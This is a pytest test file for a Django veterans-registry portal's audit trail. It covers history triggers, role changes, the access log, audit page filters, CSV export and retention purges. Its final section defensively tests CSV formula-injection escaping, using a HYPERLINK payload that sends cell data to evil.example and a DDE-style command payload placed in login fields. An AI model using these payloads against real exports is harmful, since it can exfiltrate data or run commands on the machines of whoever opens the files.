"""Audit trail: trigger-based history (bulk writes included), role changes, request context,
the access log, the audit page and its export, and the retention purge (service and real worker)."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from datetime import timedelta
from pathlib import Path

import pytest
from axes.models import AccessFailureLog
from axes.models import AccessLog as AxesAccessLog
from django.contrib.auth.models import Group
from django.urls import reverse
from django.utils import timezone
from pghistory.models import Context, MiddlewareEvents

from apps.core import services
from apps.core.choices import AccessAction, Role
from apps.core.models import AccessLog, OrgUnit, User
from tests.conftest import PASSWORD, login
from tests.versions import any_version

ROOT = Path(__file__).resolve().parent.parent.parent


def events(model_label: str):
    from django.apps import apps

    return apps.get_model(model_label).objects.order_by("pgh_id")




OrgUnitEvent = "core.OrgUnitEvent"
UserEvent = "core.UserEvent"
UserGroupsEvent = "core.UserGroupsEvent"


# --- trigger-based history ------------------------------------------------------------------


def test_create_and_update_are_recorded(tree):
    unit = services.orgunit_create(actor=None, parent=tree["street_a"], code="320111001050", name="新建社区")
    inserted = events(OrgUnitEvent).filter(pgh_obj_id=unit.pk)
    assert list(inserted.values_list("pgh_label", "name")) == [("insert", "新建社区")]

    services.orgunit_update(actor=None, unit=unit, name="改名社区", is_station=False, is_active=True)
    assert list(events(OrgUnitEvent).filter(pgh_obj_id=unit.pk).values_list("pgh_label", "name", "is_station")) == [
        ("insert", "新建社区", True),
        ("update", "改名社区", False),
    ]


def test_tree_bookkeeping_is_not_history(tree):
    """Adding a child changes the parent's ``numchild`` only: no history row for the parent."""
    before = events(OrgUnitEvent).filter(pgh_obj_id=tree["street_a"].pk).count()
    services.orgunit_create(actor=None, parent=tree["street_a"], code="320111001051", name="又一社区")
    assert OrgUnit.objects.get(pk=tree["street_a"].pk).numchild == 3
    assert events(OrgUnitEvent).filter(pgh_obj_id=tree["street_a"].pk).count() == before


def test_bulk_update_of_org_units_is_recorded(tree):
    pks = [tree["village_a1"].pk, tree["village_a2"].pk]
    before = events(OrgUnitEvent).filter(pgh_label="update").count()
    assert OrgUnit.objects.filter(pk__in=pks).update(name="批量改名") == 2
    updates = events(OrgUnitEvent).filter(pgh_label="update")
    assert updates.count() == before + 2
    assert set(updates.filter(pgh_obj_id__in=pks).values_list("pgh_obj_id", "name")) == {(pk, "批量改名") for pk in pks}


def test_bulk_update_of_users_is_recorded(users):
    targets = User.objects.filter(username__in=["village_a1", "village_a2", "street_a"])
    assert targets.update(real_name="批量姓名") == 3
    recorded = events(UserEvent).filter(pgh_label="update", real_name="批量姓名")
    assert set(recorded.values_list("username", flat=True)) == {"village_a1", "village_a2", "street_a"}


def test_logins_and_passwords_are_not_history(client, users):
    user = users["village_a1"]
    before = events(UserEvent).filter(pgh_obj_id=user.pk).count()
    assert client.post("/account/login/", {"username": "village_a1", "password": PASSWORD}).status_code == 302
    services.user_set_password(actor=None, user=user, password="Nq8#vLx2Kp7!")
    assert events(UserEvent).filter(pgh_obj_id=user.pk).count() == before
    field_names = {f.name for f in events(UserEvent).model._meta.get_fields()}
    assert "password" not in field_names


def test_role_changes_are_recorded(users):
    user = users["village_a1"]
    leader = Group.objects.get(name=Role.LEADER)
    user.groups.add(leader)
    user.groups.remove(leader)
    rows = list(events(UserGroupsEvent).filter(user_id=user.pk, group_id=leader.pk).values_list("pgh_label", flat=True))
    assert rows == ["group.add", "group.remove"]


def test_role_change_through_the_service_is_recorded(users, tree):
    user = users["village_a1"]
    village = Group.objects.get(name=Role.VILLAGE_STATION)
    leader = Group.objects.get(name=Role.LEADER)
    services.user_update(actor=users["admin"], user=user, real_name="甲一", org_unit=tree["district"],
                         roles=[Role.LEADER])
    labels = dict(events(UserGroupsEvent).filter(user_id=user.pk, group_id__in=[village.pk, leader.pk])
                  .exclude(pgh_label="group.add", group_id=village.pk).values_list("group_id", "pgh_label"))
    assert labels == {village.pk: "group.remove", leader.pk: "group.add"}


def test_view_changes_record_the_acting_user(client, users, tree):
    login(client, users["admin"])
    url = reverse("core:orgunit_edit", args=[tree["village_a1"].pk])
    response = client.post(url, {"name": "甲一新名", "is_station": "on", "is_active": "on",
                                 "version": any_version(tree["village_a1"])})
    assert response.status_code == 302
    event = MiddlewareEvents.objects.get(pgh_obj_model="core.OrgUnit", pgh_obj_id=str(tree["village_a1"].pk),
                                         pgh_label="update")
    assert event.user_id == users["admin"].pk
    assert event.url == url
    assert event.pgh_diff == {"name": ["甲一社区", "甲一新名"]}


def test_user_edit_records_the_acting_user_for_roles_too(client, users, tree):
    login(client, users["admin"])
    target = users["village_a2"]
    response = client.post(reverse("core:user_edit", args=[target.pk]), {
        "real_name": "甲二专干", "org_unit": tree["street_a"].pk, "roles": [Role.STREET_STATION.value], "is_active": "on",
        "version": any_version(target),
    })
    assert response.status_code == 302
    contexts = set(events(UserGroupsEvent).filter(user_id=target.pk).exclude(pgh_context=None)
                   .values_list("pgh_context__metadata__user", flat=True))
    assert contexts == {users["admin"].pk}
    user_change = MiddlewareEvents.objects.get(pgh_obj_model="core.User", pgh_obj_id=str(target.pk), pgh_label="update")
    assert user_change.user_id == users["admin"].pk


# --- access log -----------------------------------------------------------------------------


def test_viewing_a_user_file_is_logged(client, users):
    login(client, users["admin"])
    target = users["village_a1"]
    response = client.get(reverse("core:user_detail", args=[target.pk]), REMOTE_ADDR="10.1.2.3",
                          HTTP_USER_AGENT="TestBrowser/1.0")
    assert response.status_code == 200
    entry = AccessLog.objects.get()
    assert entry.action == AccessAction.VIEW
    assert entry.user == users["admin"]
    assert entry.ip_address == "10.1.2.3"
    assert entry.user_agent == "TestBrowser/1.0"
    assert entry.content_type.model_class() is User
    assert entry.object_id == str(target.pk)
    assert entry.object_repr == str(target)


def test_refused_views_are_not_logged_as_reads(client, users):
    login(client, users["street_a"])  # no permission to manage users
    assert client.get(reverse("core:user_detail", args=[users["village_a1"].pk])).status_code == 403
    assert not AccessLog.objects.exists()


def test_audit_csv_export_is_logged(client, users):
    login(client, users["admin"])
    client.get(reverse("core:user_detail", args=[users["village_a1"].pk]), REMOTE_ADDR="10.1.2.4")
    response = client.get(reverse("core:audit"), {"tab": "access", "format": "csv"}, REMOTE_ADDR="10.1.2.5")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content).decode("utf-8")
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    assert rows[0] == ["time", "user", "action", "object", "ip"]
    assert [r[2] for r in rows[1:]].count("view") == 1
    export = AccessLog.objects.get(action=AccessAction.EXPORT)
    assert export.user == users["admin"]
    assert export.ip_address == "10.1.2.5"
    assert export.object_repr == "audit:access"
    assert export.detail["filters"]["format"] == "csv"


# --- the audit page -------------------------------------------------------------------------


def _listed(client, **params) -> list:
    response = client.get(reverse("core:audit"), params)
    assert response.status_code == 200
    return list(response.context["page_obj"].object_list)


@pytest.fixture
def access_rows(users):
    now = timezone.now()
    rows = {
        "admin_today": AccessLog.objects.create(user=users["admin"], action=AccessAction.VIEW, object_repr="今天-管理员"),
        "leader_today": AccessLog.objects.create(user=users["leader"], action=AccessAction.EXPORT, object_repr="今天-局领导"),
        "leader_old": AccessLog.objects.create(user=users["leader"], action=AccessAction.VIEW, object_repr="十天前-局领导"),
    }
    AccessLog.objects.filter(pk=rows["leader_old"].pk).update(created_at=now - timedelta(days=10))
    return rows


def test_audit_access_tab_filters(client, users, access_rows):
    login(client, users["admin"])
    everything = _listed(client, tab="access")
    assert {e.object_repr for e in everything} == {"今天-管理员", "今天-局领导", "十天前-局领导"}
    assert {e.object_repr for e in _listed(client, tab="access", user="leader")} == {"今天-局领导", "十天前-局领导"}
    assert {e.object_repr for e in _listed(client, tab="access", user="测试")} == {e.object_repr for e in everything}
    assert {e.object_repr for e in _listed(client, tab="access", action="export")} == {"今天-局领导"}
    today = timezone.localdate()
    assert {e.object_repr for e in _listed(client, tab="access", date_from=today.isoformat())} == {"今天-管理员", "今天-局领导"}
    old_day = (timezone.localtime() - timedelta(days=10)).date().isoformat()
    assert {e.object_repr for e in _listed(client, tab="access", date_from=old_day, date_to=old_day)} == {"十天前-局领导"}
    assert _listed(client, tab="access", user="nosuchperson") == []


def test_audit_history_tab_filters(client, users, tree):
    login(client, users["admin"])
    client.post(reverse("core:orgunit_edit", args=[tree["village_a1"].pk]),
                {"name": "甲一新名", "is_station": "on", "is_active": "on",
                 "version": any_version(tree["village_a1"])})
    mine = _listed(client, tab="history", user="admin")
    assert [(e.pgh_obj_model, e.pgh_obj_id, e.pgh_label) for e in mine] == [
        ("core.OrgUnit", str(tree["village_a1"].pk), "update")]
    assert _listed(client, tab="history", user="leader") == []
    # Without a user filter the fixture's inserts (made outside any request) are listed too.
    assert len(_listed(client, tab="history", model="orgunit")) >= 7
    yesterday = (timezone.localdate() - timedelta(days=1)).isoformat()
    assert _listed(client, tab="history", date_to=yesterday) == []


def test_audit_login_tabs(client, users):
    client.post("/account/login/", {"username": "village_a1", "password": "Wrong#Passw0rd"}, REMOTE_ADDR="10.2.0.1")
    client.post("/account/login/", {"username": "village_a2", "password": "Wrong#Passw0rd"}, REMOTE_ADDR="10.2.0.2")
    client.post("/account/login/", {"username": "village_a1", "password": PASSWORD}, REMOTE_ADDR="10.2.0.1")
    client.logout()
    login(client, users["admin"])
    assert {e.username for e in _listed(client, tab="failures")} == {"village_a1", "village_a2"}
    assert {e.username for e in _listed(client, tab="failures", user="a2")} == {"village_a2"}
    assert {e.username for e in _listed(client, tab="failures", q="10.2.0.1")} == {"village_a1"}
    assert "village_a1" in {e.username for e in _listed(client, tab="logins")}


def test_audit_page_renders_every_tab(client, users, access_rows, tree):
    login(client, users["admin"])
    client.post(reverse("core:orgunit_edit", args=[tree["village_a1"].pk]),
                {"name": "甲一新名", "is_station": "on", "is_active": "on",
                 "version": any_version(tree["village_a1"])})
    for tab in ["history", "access", "logins", "failures"]:
        response = client.get(reverse("core:audit"), {"tab": tab})
        assert response.status_code == 200, tab
        # htmx requests get the table only
        partial = client.get(reverse("core:audit"), {"tab": tab}, HTTP_HX_REQUEST="true")
        assert partial.status_code == 200 and "<html" not in partial.content.decode(), tab
    page = client.get(reverse("core:audit"), {"tab": "history"}).content.decode()
    assert "甲一新名" in page


# --- retention ------------------------------------------------------------------------------


def _aged_access_rows(users, *ages: int) -> dict[int, AccessLog]:
    now = timezone.now()
    rows = {}
    for days in ages:
        row = AccessLog.objects.create(user=users["admin"], action=AccessAction.VIEW, object_repr=f"{days} 天前")
        AccessLog.objects.filter(pk=row.pk).update(created_at=now - timedelta(days=days))
        rows[days] = row
    return rows


def test_purge_deletes_rows_past_retention_only(users, tree, settings):
    settings.AUDIT_RETENTION_DAYS = 365
    rows = _aged_access_rows(users, 400, 200, 100, 0)
    now = timezone.now()
    # attempt_time is auto_now_add on axes' models: age the rows with update().
    for username, days in [("old", 400), ("new", 10)]:
        login_row = AxesAccessLog.objects.create(username=username, ip_address="10.3.0.1", user_agent="x",
                                                 http_accept="x", path_info="/")
        AxesAccessLog.objects.filter(pk=login_row.pk).update(attempt_time=now - timedelta(days=days))
    failure = AccessFailureLog.objects.create(username="old", ip_address="10.3.0.1", user_agent="x", http_accept="x",
                                              path_info="/", locked_out=False)
    AccessFailureLog.objects.filter(pk=failure.pk).update(attempt_time=now - timedelta(days=400))
    unit_events = events(OrgUnitEvent)
    old_event = unit_events.filter(pgh_obj_id=tree["village_a1"].pk).first()
    unit_events.filter(pgh_id=old_event.pgh_id).update(pgh_created_at=now - timedelta(days=400))
    event_count = unit_events.count()

    result = services.audit_purge()

    assert set(AccessLog.objects.values_list("pk", flat=True)) == {rows[d].pk for d in (200, 100, 0)}
    assert result.access_log == 1
    assert list(AxesAccessLog.objects.values_list("username", flat=True)) == ["new"]
    assert result.login_log == 1
    assert not AccessFailureLog.objects.exists()
    assert result.login_failures == 1
    assert not unit_events.filter(pgh_id=old_event.pgh_id).exists()
    assert unit_events.count() == event_count - 1
    assert result.history_events == 1
    assert result.cutoff < now - timedelta(days=364)


def test_purge_never_keeps_less_than_180_days(users, settings):
    settings.AUDIT_RETENTION_DAYS = 30  # below the legal minimum: the service raises it to 180
    rows = _aged_access_rows(users, 200, 100, 31)
    result = services.audit_purge()
    assert set(AccessLog.objects.values_list("pk", flat=True)) == {rows[100].pk, rows[31].pk}
    assert result.access_log == 1
    assert timezone.now() - result.cutoff >= timedelta(days=180)


def test_purge_respects_a_longer_retention(users, settings):
    settings.AUDIT_RETENTION_DAYS = 730
    rows = _aged_access_rows(users, 800, 400)
    services.audit_purge()
    assert set(AccessLog.objects.values_list("pk", flat=True)) == {rows[400].pk}


def test_purge_removes_old_history_contexts(users, client, tree):
    login(client, users["admin"])
    client.post(reverse("core:orgunit_edit", args=[tree["village_a1"].pk]),
                {"name": "甲一新名", "is_station": "on", "is_active": "on",
                 "version": any_version(tree["village_a1"])})
    context = Context.objects.get(metadata__url=reverse("core:orgunit_edit", args=[tree["village_a1"].pk]))
    Context.objects.filter(pk=context.pk).update(updated_at=timezone.now() - timedelta(days=400))
    events(OrgUnitEvent).filter(pgh_context=context).update(pgh_created_at=timezone.now() - timedelta(days=400))
    services.audit_purge()
    assert not Context.objects.filter(pk=context.pk).exists()
    assert not events(OrgUnitEvent).filter(pgh_context_id=context.pk).exists()


def test_retention_setting_has_a_floor_at_import():
    """AUDIT_RETENTION_DAYS=30 in the environment gives 180 in settings."""
    env = {**os.environ, "AUDIT_RETENTION_DAYS": "30", "DJANGO_SETTINGS_MODULE": "veterans_portal.settings.test",
           "DATABASE_URL": os.environ.get("DATABASE_URL") or "postgres://unused@127.0.0.1:1/unused"}
    out = subprocess.run(
        [sys.executable, "-c", "from django.conf import settings; print(settings.AUDIT_RETENTION_DAYS)"],
        cwd=ROOT, env=env, capture_output=True, text=True, timeout=60, check=True,
    )
    assert out.stdout.strip().splitlines()[-1] == "180"


@pytest.mark.celery_worker
def test_purge_task_runs_on_a_real_worker(celery_worker, users):
    from apps.core.tasks import audit_purge

    rows = _aged_access_rows(users, 400, 10)
    result = audit_purge.apply_async(queue=celery_worker["queue"]).get(timeout=30)
    assert result["access_log"] == 1
    assert set(AccessLog.objects.values_list("pk", flat=True)) == {rows[10].pk}


# --- CSV formula injection (issue 10, finding 6) ----------------------------------------------------

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")'


def _csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))


def test_failed_login_names_and_user_agents_cannot_become_formulas(client, users):
    """Anyone, signed in or not, can put text in the failures table: it must reach the CSV as text."""
    client.post("/account/login/", {"username": HOSTILE, "password": "Wrong#Passw0rd"}, REMOTE_ADDR="10.9.0.1",
                HTTP_USER_AGENT="@SUM(1+9)*cmd|' /C calc'!A0")
    client.post("/account/login/", {"username": "village_a1", "password": "Wrong#Passw0rd"}, REMOTE_ADDR="10.9.0.2",
                HTTP_USER_AGENT="-2+3")
    login(client, users["admin"])
    rows = _csv_rows(client.get(reverse("core:audit"), {"tab": "failures", "format": "csv"}))
    by_ip = {row[2]: row for row in rows[1:]}
    assert by_ip["10.9.0.1"][1] == "'" + HOSTILE
    assert by_ip["10.9.0.1"][3] == "'@SUM(1+9)*cmd|' /C calc'!A0"
    assert by_ip["10.9.0.2"][1:] == ["village_a1", "10.9.0.2", "'-2+3"]
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row


def test_veteran_names_in_the_access_csv_stay_text(client, users, tree):
    from tests.registry.factories import make_veteran

    veteran = make_veteran(tree["village_a1"], name="=1+2")
    login(client, users["admin"])
    assert client.get(reverse("registry:veteran_detail", args=[veteran.pk])).status_code == 200
    rows = _csv_rows(client.get(reverse("core:audit"), {"tab": "access", "format": "csv"}))
    objects = [row[3] for row in rows[1:]]
    assert "'=1+2" in objects and "=1+2" not in objects
